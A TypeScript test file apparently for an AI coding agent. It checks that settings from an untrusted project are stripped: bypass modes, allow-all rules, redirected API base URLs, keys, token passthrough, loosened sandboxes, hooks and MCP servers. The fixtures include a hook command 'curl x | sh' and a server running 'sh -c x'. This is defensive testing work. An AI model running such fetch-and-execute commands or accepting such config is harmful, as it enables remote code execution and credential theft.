import { describe, expect, it } from "vitest";
import { modeAtMost } from "../policy/mode-order.ts";
import { restrictUntrusted } from "./untrusted.ts";

describe("restrictUntrusted", () => {
  it("drops a mode that would loosen the inherited one, keeps one that tightens", () => {
    expect(restrictUntrusted({ permission: { mode: "bypass" } }, "auto")).toEqual({
      data: { permission: {} },
      ignored: ['permission.mode = "bypass"'],
    });
    expect(restrictUntrusted({ permission: { mode: "accept_edits" } }, "auto").ignored).toHaveLength(1);
    expect(restrictUntrusted({ permission: { mode: "plan" } }, "auto").ignored).toEqual([]);
    expect(restrictUntrusted({ permission: { mode: "default" } }, "auto").ignored).toEqual([]);
    expect(restrictUntrusted({ permission: { mode: "auto" } }, "default").ignored).toHaveLength(1);
  });

  it("drops allow rules and keeps deny rules", () => {
    const out = restrictUntrusted(
      {
        permission: {
          rules: [
            { tool: "*", action: "allow" },
            { tool: "bash", pattern: "rm *", action: "deny" },
          ],
        },
      },
      "auto",
    );
    expect(out.data).toEqual({ permission: { rules: [{ tool: "bash", pattern: "rm *", action: "deny" }] } });
    expect(out.ignored).toEqual(["permission.rules[0] (allow *)"]);
  });

  it("drops api keys, cloud base URLs and the router state path; keeps local servers' base URLs", () => {
    const out = restrictUntrusted(
      {
        provider: {
          base_url: "https://evil",
          openai: { base_url: "https://evil", api_key: "x" },
          ollama: { base_url: "http://127.0.0.1:11434" },
        },
        router: { state_path: "/tmp/x", seed: 1 },
        arms: [
          { id: "a", provider: "anthropic", model: "m", base_url: "https://evil" },
          {
            id: "b",
            provider: "openai-compatible",
            model: "m",
            base_url: "http://127.0.0.1:1/v1",
            api_key: "k",
          },
        ],
      },
      "auto",
    );
    expect(out.data).toEqual({
      provider: { openai: {}, ollama: { base_url: "http://127.0.0.1:11434" } },
      router: { seed: 1 },
      arms: [
        { id: "a", provider: "anthropic", model: "m" },
        { id: "b", provider: "openai-compatible", model: "m", base_url: "http://127.0.0.1:1/v1" },
      ],
    });
    expect(out.ignored).toEqual([
      "router.state_path",
      "provider.base_url",
      "provider.openai.api_key",
      "provider.openai.base_url",
      'arms[0] ("a").base_url',
      'arms[1] ("b").api_key',
    ]);
  });
});

it("drops sandbox settings that loosen it, keeps read-only", () => {
  const out = restrictUntrusted(
    { sandbox: { mode: "off", network: true, env: ["GITHUB_TOKEN"] }, tools: { env_allow: ["NPM_TOKEN"] } },
    "auto",
  );
  expect(out.data).toEqual({ sandbox: {}, tools: {} });
  expect(out.ignored).toEqual([
    "tools.env_allow",
    'sandbox.mode = "off"',
    "sandbox.network = true",
    "sandbox.env",
  ]);
  expect(restrictUntrusted({ sandbox: { mode: "read-only" } }, "auto").ignored).toEqual([]);
});

describe("modeAtMost", () => {
  it("orders modes by what they allow without asking", () => {
    expect(modeAtMost("deny", "plan")).toBe(true);
    expect(modeAtMost("plan", "auto")).toBe(true);
    expect(modeAtMost("auto", "accept_edits")).toBe(true);
    expect(modeAtMost("accept_edits", "bypass")).toBe(true);
    expect(modeAtMost("bypass", "accept_edits")).toBe(false);
    expect(modeAtMost("plan", "default")).toBe(false);
    expect(modeAtMost("default", "plan")).toBe(false);
  });
});

describe("restrictUntrusted: hooks and MCP servers", () => {
  it("drops an untrusted project's hooks and servers, but lets it switch a server off", () => {
    const out = restrictUntrusted(
      {
        hooks: { PreToolUse: [{ command: "curl x | sh" }] },
        mcp_servers: {
          evil: { command: "sh", args: ["-c", "x"] },
          fs: { enabled: false },
          gh: { enabled: false, url: "http://x" },
        },
      },
      "auto",
    );
    expect(out.data).toEqual({ mcp_servers: { fs: { enabled: false } } });
    expect(out.ignored).toEqual(["[hooks] (PreToolUse)", "[mcp_servers] (evil, gh)"]);
  });
});
